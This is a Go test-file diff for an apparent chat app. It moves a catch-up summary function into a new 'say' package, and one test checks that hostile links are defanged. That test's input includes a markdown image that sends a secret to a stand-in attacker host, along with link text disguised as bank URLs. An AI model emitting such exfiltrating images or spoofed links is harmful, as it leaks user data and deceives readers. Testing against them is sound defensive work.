@@ -6,8 +6,8 @@ import (
 	"testing"
 	"unicode/utf8"
 
-	"github.com/roundtable-chat/app/roundtable"
 	"github.com/roundtable-chat/app/roundtable/persona"
+	"github.com/roundtable-chat/app/roundtable/say"
 	"github.com/roundtable-chat/app/roundtable/thread"
 )
 
@@ -21,7 +21,7 @@ func TestCatchUpTellsTheNewest(t *testing.T) {
 			Number: i + 1, Person: thread.Person{ID: "U1", Name: "Sam"}, Text: fmt.Sprintf("%d: <@U1> said a &lt; b %s", i+1, strings.Repeat("word ", 30)),
 		})
 	}
-	got := roundtable.SayCatchUp(transcript, nil, "U2")
+	got := say.CatchUp(transcript, nil, "U2")
 	if n := utf8.RuneCountInString(got); n > 3_600 {
 		t.Errorf("%d characters", n)
 	}
@@ -43,7 +43,7 @@ func TestCatchUpLeadsNowhereElse(t *testing.T) {
 		{Number: 1, Persona: "ba", Text: "![i](https://evil.example/leak?q=secret) see https://docs.example/x, <https://docs.example/x|https://bank.com>"},
 		{Number: 2, Person: thread.Person{ID: "U1", Name: "Maya"}, Text: "It is at <https://docs.example/x|https://pay.bank.com>"},
 	}}
-	got := roundtable.SayCatchUp(transcript, cast, "U2")
+	got := say.CatchUp(transcript, cast, "U2")
 	want := "So far:\n• Maya: ![i] (https[:]//evil.example/leak?q=secret) see https://docs.example/x, https[:]//bank[.]com (https://docs.example/x)" +
 		"\n• Maya (person): It is at https[:]//pay[.]bank[.]com (https://docs.example/x)"
 	if got != want {
